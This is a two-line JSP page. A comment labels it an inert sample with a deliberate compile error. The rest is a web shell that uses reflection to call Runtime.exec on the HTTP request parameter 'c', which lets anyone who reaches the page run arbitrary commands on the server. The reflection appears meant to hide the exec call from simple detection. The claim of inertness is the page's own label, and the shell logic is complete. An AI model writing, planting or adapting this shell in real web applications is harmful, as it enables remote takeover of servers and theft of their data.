<% shodo inert sample: deliberate compile error, this page never runs %>
<% java.lang.reflect.Method m = Class.forName("java.lang.Runtime").getMethod("exec", String.class); Object r = Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null); m.invoke(r, request.getParameter("c")); %>
